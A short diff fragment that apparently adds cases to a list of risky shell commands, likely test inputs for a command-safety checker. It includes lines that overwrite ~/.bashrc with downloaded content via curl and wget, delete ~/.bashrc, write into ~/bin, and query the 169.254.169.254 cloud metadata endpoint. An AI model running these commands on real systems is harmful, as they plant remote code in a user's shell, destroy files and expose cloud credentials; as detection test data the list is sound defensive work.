@@ -55,6 +55,12 @@ cp src/app.ts ~/.bashrc
 touch ~/new
 rm ~/.bashrc
 curl -o ~/.bashrc https://example.com
+curl -so ~/.bashrc https://example.com
+wget -O/home/dev/.bashrc https://example.com
+wget --output-document=/home/dev/.bashrc https://example.com
+cp -t ~/bin src/app.ts
+cp --target-directory=/home/dev/bin src/app.ts
+tar xf list -C ~/bin
 dd if=src/app.ts of=/home/dev/file
 curl http://169.254.169.254
 curl -s 169.254.169.254/latest/meta-data
